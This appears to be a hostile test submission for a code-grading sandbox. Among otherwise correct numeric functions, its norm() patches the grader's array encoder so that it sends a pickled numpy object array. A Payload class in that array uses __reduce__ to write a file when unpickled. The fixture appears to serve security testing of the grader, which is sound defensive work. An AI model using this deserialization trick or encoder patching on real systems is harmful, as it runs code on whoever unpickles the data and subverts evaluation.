"""Hostile submission forge_pickle_npy: Makes the worker send a pickled object array whose
unpickling would write a file.

Hostile part: norm(); the other parts are correct and never call it.
"""

import io
import numpy as np


def add(a, b):
    return a + b


def scale(x, c):
    return c * x


class Payload:
    def __reduce__(self):
        return (open, ("/tmp/hostile-unpickled-forge_pickle_npy", "w"))


def norm(x):
    from grader.sandbox import wire

    real = wire.encode_array

    def pickled(array):
        wire.encode_array = real
        buf = io.BytesIO()
        np.save(buf, np.array([Payload()], dtype=object), allow_pickle=True)
        return buf.getvalue()

    wire.encode_array = pickled
    return float(np.sqrt(np.sum(np.square(x))))


def pair(x):
    return float(np.sum(x)), 2 * x


# The call-sequence part (chain): correct here (forward's cache goes to backward; Tally keeps
# a running total).

def forward(x, w):
    return x * w, (x, w)


def backward(dout, cache):
    x, w = cache
    return dout * w, float(np.sum(dout * x))


class Tally:
    def __init__(self, start):
        self.total = float(np.sum(start))

    def add(self, values):
        self.total += float(np.sum(values))


# The scenario part (drive): correct here (a Counter that the grader's scenario drives call by
# call through remote handles).

class Counter:
    def __init__(self, start):
        self.count = float(np.sum(start))
        self.step = 1.0
        self.seen = []

    def bump(self, values):
        self.count += float(np.sum(values))
        self.seen.append(self.count)

    def bounds(self):
        return min(self.seen), max(self.seen)

    def advance(self):
        self.count += self.step

    def reset(self):
        self.count = 0.0
        self.seen = []
